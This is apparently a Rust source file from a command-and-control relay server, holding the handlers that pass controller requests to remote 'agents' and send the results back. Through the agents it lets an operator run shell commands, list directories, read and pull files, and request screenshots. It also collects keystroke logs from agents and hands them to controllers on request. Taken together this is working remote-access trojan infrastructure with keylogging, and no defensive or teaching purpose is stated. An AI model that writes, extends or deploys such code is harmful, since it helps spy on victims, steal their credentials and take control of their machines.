//! Per-type message handlers.
//!
//! Three patterns: forwarding a controller request to an agent and remembering
//! who asked, routing an agent's response back to that requester, and replying
//! directly on the sending connection.

use log::{debug, info, warn};
use relayhub_protocol::{
    AgentAuth, AgentQuery, AgentResponse, CommandNotice, DataNotice, ForwardRequest,
    KeylogReport, MessageKind, OutboundMessage, StatusNotice,
};
use serde_json::Value;

use super::connection::Session;
use super::error::{RelayError, RelayResult};
use super::hub::RelayHub;
use super::pending::{OriginalRequest, PendingRequest};

/// Requests that are forwarded to an agent and answered later.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum ForwardKind {
    Cmd,
    Fs,
    Readfile,
    GetFile,
}

impl ForwardKind {
    fn message_kind(self) -> MessageKind {
        match self {
            ForwardKind::Cmd => MessageKind::Cmd,
            ForwardKind::Fs => MessageKind::Fs,
            ForwardKind::Readfile => MessageKind::Readfile,
            ForwardKind::GetFile => MessageKind::GetFile,
        }
    }

    fn missing_agent(self) -> &'static str {
        match self {
            ForwardKind::GetFile => "Missing agent identifier for get_file",
            _ => "Missing agent identifier",
        }
    }

    fn missing_data(self) -> &'static str {
        match self {
            ForwardKind::Cmd => "Missing command to execute",
            ForwardKind::Fs => "Missing directory path",
            ForwardKind::Readfile | ForwardKind::GetFile => "Missing file path to read",
        }
    }

    /// The frame the agent receives. `get_file` reuses the agent's `readfile` verb.
    fn forward(self, request_id: String, data: Value) -> OutboundMessage {
        match self {
            ForwardKind::Cmd => OutboundMessage::Cmd { request_id, data },
            ForwardKind::Fs => OutboundMessage::Fs { request_id, data },
            ForwardKind::Readfile | ForwardKind::GetFile => {
                OutboundMessage::Readfile { request_id, data }
            }
        }
    }
}

/// Agent responses routed back to the requester.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum ResponseKind {
    Cmd,
    Fs,
    Readfile,
    GetFile,
}

impl ResponseKind {
    fn reply(self, agent: String, data: Value, original: Value) -> OutboundMessage {
        match self {
            ResponseKind::Cmd => OutboundMessage::CmdResponse {
                agent,
                data,
                original_command: original,
            },
            ResponseKind::Fs => OutboundMessage::FsResponse {
                agent,
                data,
                original_path: original,
            },
            ResponseKind::Readfile => OutboundMessage::ReadfileResponse {
                agent,
                data,
                original_path: original,
            },
            ResponseKind::GetFile => OutboundMessage::GetFileResponse {
                agent,
                data,
                file_path: original,
            },
        }
    }

    fn as_str(self) -> &'static str {
        match self {
            ResponseKind::Cmd => "cmd_response",
            ResponseKind::Fs => "fs_response",
            ResponseKind::Readfile => "readfile_response",
            ResponseKind::GetFile => "get_file_response",
        }
    }
}

/// Reject absent and empty agent ids before any lookup.
fn required_agent(agent: Option<String>, missing: &'static str) -> RelayResult<String> {
    agent
        .filter(|id| !id.is_empty())
        .ok_or(RelayError::MissingField(missing))
}

fn required_data(data: Option<Value>, missing: &'static str) -> RelayResult<Value> {
    match data {
        None | Some(Value::Null) => Err(RelayError::MissingField(missing)),
        Some(Value::String(text)) if text.is_empty() => Err(RelayError::MissingField(missing)),
        Some(value) => Ok(value),
    }
}

/// Render a notice field for an ack message.
fn notice_text(value: Option<&Value>) -> String {
    match value {
        None | Some(Value::Null) => "unknown".to_string(),
        Some(Value::String(text)) => text.clone(),
        Some(other) => other.to_string(),
    }
}

impl RelayHub {
    pub(super) async fn handle_agent_auth(
        &self,
        session: &mut Session,
        auth: AgentAuth,
    ) -> RelayResult<()> {
        let agent_id = required_agent(auth.data, "Missing agent identifier")?;
        if let Some(current) = session.agent_id() {
            return Err(RelayError::AlreadyAuthenticated(current.to_string()));
        }

        self.agents.register(&agent_id, session.handle().clone())?;
        session.authenticate(agent_id);
        self.reply(
            session,
            OutboundMessage::Success {
                message: "Authentication successful".to_string(),
            },
        )
        .await;
        Ok(())
    }

    pub(super) async fn handle_forward(
        &self,
        session: &Session,
        kind: ForwardKind,
        request: ForwardRequest,
    ) -> RelayResult<()> {
        let agent_id = required_agent(request.agent, kind.missing_agent())?;
        let data = required_data(request.data, kind.missing_data())?;
        let agent = self
            .agents
            .lookup(&agent_id)
            .ok_or_else(|| RelayError::UnknownAgent(agent_id.clone()))?;

        let request_id = self.config.request_ids.generate();
        self.pending.create(PendingRequest::new(
            request_id.clone(),
            session.handle().clone(),
            OriginalRequest {
                agent: agent_id.clone(),
                kind: kind.message_kind(),
                data: data.clone(),
            },
            agent.id(),
        ))?;

        if let Err(e) = agent.send(kind.forward(request_id.clone(), data.clone())).await {
            debug!("Forward of {} failed: {}", request_id, e);
            self.pending.take(&request_id);
            return Err(RelayError::UnknownAgent(agent_id));
        }
        info!(
            "Forwarded {} {} from {} to agent {}",
            kind.message_kind(),
            request_id,
            session.id(),
            agent_id
        );

        if kind == ForwardKind::GetFile {
            self.reply(
                session,
                OutboundMessage::GetFilePending {
                    agent: agent_id,
                    request_id,
                    file_path: data,
                    message: "File read request sent to agent".to_string(),
                },
            )
            .await;
        }
        Ok(())
    }

    /// Route a response to whoever is waiting for it.
    ///
    /// Responses without a live correlation entry are dropped without a reply.
    pub(super) async fn handle_response(
        &self,
        session: &Session,
        kind: ResponseKind,
        response: AgentResponse,
    ) -> RelayResult<()> {
        let Some(request_id) = response.request_key() else {
            warn!("{} from {} has no request_id", kind.as_str(), session.id());
            return Ok(());
        };
        let Some(pending) = self.pending.take(&request_id) else {
            info!(
                "No pending request {} for {} from {}, dropping",
                request_id,
                kind.as_str(),
                session.id()
            );
            return Ok(());
        };

        let reply = kind.reply(
            pending.original.agent.clone(),
            response.data,
            pending.original.data,
        );
        // Never wait on the requester here, it would stall this agent's reader.
        if let Err(e) = pending.requester.try_deliver(reply) {
            warn!("Dropping response {} for {}: {}", request_id, pending.requester.id(), e);
        }
        Ok(())
    }

    /// Keystrokes are only accepted from an authenticated agent, about itself.
    pub(super) fn handle_keylog(&self, session: &Session, report: KeylogReport) -> RelayResult<()> {
        let Some(agent_id) = session.agent_id() else {
            debug!("Ignoring keylog from unauthenticated {}", session.id());
            return Ok(());
        };
        let Some(chunk) = report.data else {
            return Ok(());
        };
        self.agents.append_keylog(agent_id, session.id(), &chunk);
        Ok(())
    }

    pub(super) async fn handle_get_keys(
        &self,
        session: &Session,
        query: AgentQuery,
    ) -> RelayResult<()> {
        let agent_id = required_agent(query.agent, "Missing agent identifier for get_keys")?;
        let data = self
            .agents
            .keylog(&agent_id)
            .ok_or_else(|| RelayError::UnknownAgent(agent_id.clone()))?;

        self.reply(
            session,
            OutboundMessage::GetKeysResponse {
                agent: agent_id,
                data,
            },
        )
        .await;
        Ok(())
    }

    pub(super) async fn handle_is_connected(
        &self,
        session: &Session,
        query: AgentQuery,
    ) -> RelayResult<()> {
        let agent_id = required_agent(
            query.agent,
            "Missing agent identifier for is_connected check",
        )?;
        let connected = self.agents.is_connected(&agent_id);
        self.reply(
            session,
            OutboundMessage::IsConnectedResponse {
                agent: agent_id,
                connected,
            },
        )
        .await;
        Ok(())
    }

    /// Forward a screenshot request and echo it to the sender. Not correlated.
    pub(super) async fn handle_screenshot(
        &self,
        session: &Session,
        request: ForwardRequest,
    ) -> RelayResult<()> {
        let agent_id = required_agent(request.agent, "Missing agent identifier")?;
        let agent = self
            .agents
            .lookup(&agent_id)
            .ok_or_else(|| RelayError::UnknownAgent(agent_id.clone()))?;

        let data = request.data.unwrap_or(Value::Null);
        let frame = OutboundMessage::Screenshot {
            request_id: String::new(),
            data,
        };
        if let Err(e) = agent.send(frame.clone()).await {
            debug!("Screenshot forward to {} failed: {}", agent_id, e);
            return Err(RelayError::UnknownAgent(agent_id));
        }
        self.reply(session, frame).await;
        Ok(())
    }

    pub(super) async fn handle_command(
        &self,
        session: &Session,
        notice: CommandNotice,
    ) -> RelayResult<()> {
        let message = format!(
            "Command {} received for {}",
            notice_text(notice.command.as_ref()),
            notice_text(notice.target.as_ref())
        );
        self.reply(session, OutboundMessage::ack(message)).await;
        Ok(())
    }

    pub(super) async fn handle_status(
        &self,
        session: &Session,
        notice: StatusNotice,
    ) -> RelayResult<()> {
        let message = format!(
            "Status update received: {}",
            notice_text(notice.status.as_ref())
        );
        self.reply(session, OutboundMessage::ack(message)).await;
        Ok(())
    }

    pub(super) async fn handle_data(&self, session: &Session, notice: DataNotice) -> RelayResult<()> {
        debug!(
            "Data from {}: {}",
            session.id(),
            notice_text(notice.payload.as_ref())
        );
        self.reply(session, OutboundMessage::ack("Data received"))
            .await;
        Ok(())
    }
}
